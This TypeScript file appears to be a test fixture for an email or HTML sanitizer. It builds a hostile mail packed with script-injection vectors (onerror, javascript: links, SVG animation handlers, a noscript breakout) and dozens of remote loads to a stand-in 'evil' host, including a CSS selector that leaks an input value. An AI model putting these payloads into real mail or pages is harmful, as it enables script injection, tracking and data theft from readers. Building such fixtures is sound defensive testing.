/** Markup that runs where a text becomes markup. */
export const literal = '<img src=x onerror=alert(1)>';

/** Everything a mail can try, with `evil` as the server it wants to reach. Ends with a line that is to be seen. */
export const hostileHtml = (evil: string): string => `<!doctype html>
<html>
<head>
  <base href="${evil}">
  <meta http-equiv="refresh" content="0;url=${evil}refresh">
  <link rel="stylesheet" href="${evil}style.css">
  <link rel="prefetch" href="${evil}prefetch">
  <link rel="preload" as="image" href="${evil}preload.png">
  <link rel="dns-prefetch" href="${evil}">
  <link rel="preconnect" href="${evil}">
  <link rel="icon" href="${evil}icon">
  <style>
    @import url("${evil}import.css");
    @font-face { font-family: evil; src: url("${evil}font.woff2"); }
    body { font-family: evil; background: url("${evil}background.png"); }
    p::before { content: url("${evil}content.png"); }
    li { list-style-image: url("${evil}list.png"); cursor: url("${evil}cursor.png"), auto; }
  </style>
  <script>alert('script'); fetch('${evil}script');</script>
  <script src="${evil}script.js"></script>
</head>
<body onload="alert('onload')">
  <img src="x" onerror="alert('onerror')">
  <img src="${evil}remote.png" srcset="${evil}srcset.png 2x" alt="remote">
  <picture><source srcset="${evil}picture.png"><img src="${evil}fallback.png" alt=""></picture>
  <svg onload="alert('svg')" xmlns="http://www.w3.org/2000/svg"><script>alert('svg script')</script><image href="${evil}svg.png"/><use href="${evil}use.svg#a"/></svg>
  <a href="javascript:alert('link')" target="_self">javascript</a>
  <a href="${evil}top" target="_top" ping="${evil}ping">top</a>
  <form action="${evil}form" method="post" target="_top"><input name="a" value="b" autofocus onfocus="alert('focus')"><button>Submit</button></form>
  <iframe src="${evil}frame"></iframe>
  <iframe srcdoc="&lt;script&gt;parent.alert('srcdoc')&lt;/script&gt;&lt;img src='${evil}srcdoc.png'&gt;"></iframe>
  <object data="${evil}object"></object>
  <embed src="${evil}embed">
  <video src="${evil}video" poster="${evil}poster.png" autoplay></video>
  <audio src="${evil}audio" autoplay></audio>
  <details open ontoggle="alert('toggle')"><summary>s</summary></details>
  <math><maction actiontype="statusline" xlink:href="javascript:alert('math')">m</maction></math>
  <template><img src="${evil}template.gif"></template>
  <noscript><p title="</noscript><img src=x onerror=alert('noscript')>">n</p></noscript>
  <link/rel="prefetch"/href="${evil}slash"><LINK REL=preload AS=font HREF="${evil}font" crossorigin><link rel="modulepreload" href="${evil}module">
  <script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}speculation"]}]}</script>
  <meta http-equiv="refresh" content="0;javascript:alert('refresh')"><meta http-equiv="x-dns-prefetch-control" content="on">
  <style>.m { mask: url("${evil}mask.png"); filter: url("${evil}filter.png#a"); clip-path: url("${evil}clip.png#a"); background: image-set(url("${evil}set.png") 1x) }
  input[value^=s] { background: url("${evil}exfiltrated.png") } @import'${evil}layer' layer(x); @keyframes a { from { background: url("${evil}frame.png") } }</style>
  <div class="m" style="animation: a 1s" onanimationstart="alert('animation')"><input value="secret"><input type="image" alt="image" src="${evil}input.png"></div>
  <svg><a href="#" id="a"><set attributeName="onmouseover" to="alert('set')"/><animate attributeName="href" values="javascript:alert('animate')"/></a><feImage href="${evil}fe.png"/></svg>
  <div><template shadowrootmode="open"><link rel="stylesheet" href="${evil}shadow.css"><img src="${evil}shadow.png"></template></div>
  <table background="${evil}table.png"><tr><td background="${evil}cell.png">t</td></tr></table>
  <img src="${evil.replace('http:', '').replaceAll('/', '\\')}backslash.png" alt=""><img src="${evil.replace('http:', 'HTTP:')}upper.png" alt="">
  <ul><li>item</li></ul>
  <p>the last line</p>
</body>
</html>`;
